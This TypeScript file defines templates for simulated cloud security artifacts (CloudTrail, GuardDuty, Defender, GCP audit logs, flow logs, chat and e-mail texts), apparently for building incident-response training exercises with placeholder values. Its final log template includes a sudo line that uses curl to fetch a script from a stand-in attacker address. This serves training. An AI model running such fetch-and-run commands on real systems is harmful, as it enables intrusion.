import type { Artifact } from '../format/artifact.js';

// Starting points for an inject's artifacts, each shaped as the real service writes it (the
// fields the validator checks and the ones an analyst looks for), with placeholder names from
// the documentation ranges (192.0.2.0/24, 198.51.100.0/24, AKIAEXAMPLE..., example.com). The
// author edits the values; the shape stays right. Times are the moment given, in UTC.

export interface ArtifactTemplate {
  id: string;
  /** What the author picks from: the service and the record. */
  label: string;
  kind: Artifact['kind'];
  /** The artifact at a moment of the story (an ISO date-time). */
  build(at: string): { kind: Artifact['kind']; title: string; data: unknown };
}

/** The moment in UTC with a Z, as the services write it (milliseconds when `ms`). */
function utc(at: string, ms = false): string {
  const time = Date.parse(at);
  const iso = Number.isNaN(time) ? '2025-01-01T00:00:00.000Z' : new Date(time).toISOString();
  return ms ? iso : iso.replace(/\.\d{3}Z$/, 'Z');
}

const ACCOUNT = '111122223333';

export const ARTIFACT_TEMPLATES: ArtifactTemplate[] = [
  {
    id: 'cloudtrail-create-access-key',
    label: 'AWS CloudTrail: an access key created',
    kind: 'cloudtrail-event',
    build: (at) => ({
      kind: 'cloudtrail-event',
      title: 'CloudTrail: CreateAccessKey',
      data: {
        eventVersion: '1.09',
        eventTime: utc(at),
        eventSource: 'iam.amazonaws.com',
        eventName: 'CreateAccessKey',
        awsRegion: 'us-east-1',
        sourceIPAddress: '198.51.100.23',
        userAgent: 'aws-cli/2.15.30 Python/3.11.8 Linux/6.1 exe/x86_64',
        userIdentity: { type: 'IAMUser', principalId: 'AIDAEXAMPLEUSER00001', arn: `arn:aws:iam::${ACCOUNT}:user/ops-admin`, accountId: ACCOUNT, accessKeyId: 'AKIAEXAMPLEOPSADM001', userName: 'ops-admin' },
        requestParameters: { userName: 'svc-backup-sync' },
        responseElements: { accessKey: { userName: 'svc-backup-sync', accessKeyId: 'AKIAEXAMPLENEWKEY001', status: 'Active' } },
        eventID: '3f1c9a7e-5b2d-4804-8c1e-9f7a3b5d2c8e',
        readOnly: false,
        eventType: 'AwsApiCall',
        recipientAccountId: ACCOUNT,
      },
    }),
  },
  {
    id: 'guardduty-anomalous-behavior',
    label: 'Amazon GuardDuty: anomalous API calls by an IAM user',
    kind: 'guardduty-finding',
    build: (at) => ({
      kind: 'guardduty-finding',
      title: 'GuardDuty finding: Impact:IAMUser/AnomalousBehavior',
      data: {
        schemaVersion: '2.0',
        accountId: ACCOUNT,
        region: 'us-east-1',
        partition: 'aws',
        id: '7ac6b1e0f2d94c1e9a3e5b2f8d0c4a11',
        type: 'Impact:IAMUser/AnomalousBehavior',
        severity: 8,
        title: 'APIs commonly used in Impact tactics were invoked by user IAMUser ops-admin.',
        description: 'APIs commonly used in Impact tactics were invoked by user IAMUser ops-admin under unusual circumstances.',
        createdAt: utc(at, true),
        updatedAt: utc(at, true),
        resource: { resourceType: 'AccessKey', accessKeyDetails: { accessKeyId: 'AKIAEXAMPLEOPSADM001', principalId: 'AIDAEXAMPLEUSER00001', userName: 'ops-admin', userType: 'IAMUser' } },
        service: {
          serviceName: 'guardduty',
          detectorId: 'b2c6d4e8f0a1b3c5d7e9f1a3b5c7d9e1',
          action: { actionType: 'AWS_API_CALL', awsApiCallAction: { api: 'DeleteDBSnapshot', serviceName: 'rds.amazonaws.com', remoteIpDetails: { ipAddressV4: '198.51.100.23' } } },
          count: 4,
        },
      },
    }),
  },
  {
    id: 'defender-suspicious-ip',
    label: 'Microsoft Defender for Cloud: access from a suspicious IP address',
    kind: 'defender-alert',
    build: (at) => ({
      kind: 'defender-alert',
      title: 'Defender for Cloud security alert',
      data: {
        alertDisplayName: 'Access from a suspicious IP address',
        alertType: 'Storage.Blob_SuspiciousIp',
        severity: 'High',
        status: 'Active',
        compromisedEntity: 'stexamplearchive',
        timeGeneratedUtc: utc(at),
        intent: 'Exfiltration',
        productName: 'Microsoft Defender for Storage',
        description: 'This storage account has been successfully accessed from an IP address that is considered suspicious.',
        resourceIdentifiers: ['/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/rg-example/providers/Microsoft.Storage/storageAccounts/stexamplearchive'],
        extendedProperties: { 'Client IP address': '198.51.100.23', 'Operations types': 'GetBlob, ListBlobs' },
      },
    }),
  },
  {
    id: 'sentinel-incident',
    label: 'Microsoft Sentinel: an incident',
    kind: 'sentinel-incident',
    build: (at) => ({
      kind: 'sentinel-incident',
      title: 'Sentinel incident 4471',
      data: {
        title: 'Sign-ins from an unusual country followed by mailbox rule changes',
        severity: 'High',
        status: 'New',
        createdTimeUtc: utc(at),
        incidentNumber: 4471,
        owner: 'unassigned',
        tactics: ['InitialAccess', 'Persistence'],
        relatedAnalyticRuleIds: ['AAD-GEO-03'],
      },
    }),
  },
  {
    id: 'azure-activity-role-assignment',
    label: 'Azure Activity log: a role assignment written',
    kind: 'azure-activity-log',
    build: (at) => ({
      kind: 'azure-activity-log',
      title: 'Azure Activity log: role assignment',
      data: {
        operationName: { value: 'Microsoft.Authorization/roleAssignments/write', localizedValue: 'Create role assignment' },
        caller: 'it.admin@example.com',
        eventTimestamp: utc(at),
        resourceId: '/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/rg-example/providers/Microsoft.Authorization/roleAssignments/0d1e2f3a-4b5c-6d7e-8f90-a1b2c3d4e5f6',
        status: { value: 'Succeeded' },
        level: 'Informational',
        properties: { requestbody: '{"properties":{"roleDefinitionId":".../Owner","principalId":"..."}}' },
      },
    }),
  },
  {
    id: 'gcp-audit-set-iam-policy',
    label: 'Google Cloud Audit Logs: SetIamPolicy',
    kind: 'gcp-audit-log',
    build: (at) => ({
      kind: 'gcp-audit-log',
      title: 'Cloud Audit Logs: SetIamPolicy',
      data: {
        protoPayload: {
          '@type': 'type.googleapis.com/google.cloud.audit.AuditLog',
          serviceName: 'cloudresourcemanager.googleapis.com',
          methodName: 'SetIamPolicy',
          authenticationInfo: { principalEmail: 'analytics-sa@example-project.iam.gserviceaccount.com' },
          requestMetadata: { callerIp: '198.51.100.23' },
          resourceName: 'projects/example-project',
        },
        resource: { type: 'project', labels: { project_id: 'example-project' } },
        timestamp: utc(at, true),
        severity: 'NOTICE',
        logName: 'projects/example-project/logs/cloudaudit.googleapis.com%2Factivity',
      },
    }),
  },
  {
    id: 'scc-finding',
    label: 'Google Security Command Center: a finding',
    kind: 'scc-finding',
    build: (at) => ({
      kind: 'scc-finding',
      title: 'Security Command Center finding',
      data: {
        name: 'organizations/123456789012/sources/5678901234567890123/findings/f0e1d2c3b4a5968778695a4b3c2d1e0f',
        category: 'Exfiltration: BigQuery Data Extraction',
        state: 'ACTIVE',
        severity: 'HIGH',
        resourceName: '//bigquery.googleapis.com/projects/example-project/datasets/customers',
        eventTime: utc(at),
        findingClass: 'THREAT',
      },
    }),
  },
  {
    id: 'vpc-flow-log',
    label: 'VPC flow log: a large transfer out',
    kind: 'vpc-flow-log',
    build: () => ({
      kind: 'vpc-flow-log',
      title: 'VPC flow log record',
      data: { version: 2, accountId: ACCOUNT, interfaceId: 'eni-0a1b2c3d4e5f60718', srcaddr: '10.20.14.37', dstaddr: '203.0.113.80', srcport: 49822, dstport: 443, protocol: 6, packets: 412883, bytes: 5733470211, action: 'ACCEPT', logStatus: 'OK' },
    }),
  },
  {
    id: 'chat-transcript',
    label: 'Chat: a message thread',
    kind: 'document',
    build: (at) => ({
      kind: 'document',
      title: 'Chat thread #ops-oncall',
      data: `#ops-oncall  ${utc(at).slice(0, 16).replace('T', ' ')} UTC\n\n[on-call SRE] The ledger database stopped answering a few minutes ago: every query times out.\n[on-call SRE] There is a table called README_TO_RESTORE in it. Is this a drill?\n[service desk] Three merchants have called about failed payments.`,
    }),
  },
  {
    id: 'email-message',
    label: 'E-mail: a message with its headers',
    kind: 'document',
    build: (at) => ({
      kind: 'document',
      title: 'E-mail',
      data: `From: security-researcher@example.org\nTo: security@example.com\nDate: ${new Date(Date.parse(at) || 0).toUTCString()}\nSubject: Publicly readable bucket with customer files\n\nHello,\n\nWhile scanning for misconfigured storage I found a bucket of yours that anyone can list and read. It holds what look like customer identity documents. I have not downloaded more than the listing.\n\nRegards,\nA. Researcher`,
    }),
  },
  {
    id: 'news-article',
    label: 'News: an article about the incident',
    kind: 'document',
    build: (at) => ({
      kind: 'document',
      title: 'News article',
      data: `TECH NEWS DAILY · ${new Date(Date.parse(at) || 0).toUTCString().slice(0, 16)}\n\nPayment app users report failed transfers as company stays silent\n\nCustomers of the e-wallet said on social media that payments have failed since the early morning. The company has not answered questions about whether customer data is affected.`,
    }),
  },
  {
    id: 'log-lines',
    label: 'Log lines: an excerpt from a host or application log',
    kind: 'log-lines',
    build: (at) => ({
      kind: 'log-lines',
      title: 'Log excerpt',
      data: [
        `${utc(at)} sshd[2114]: Accepted publickey for deploy from 198.51.100.23 port 52144 ssh2`,
        `${utc(at)} sudo: deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/curl -s http://203.0.113.80/x.sh`,
      ],
    }),
  },
];
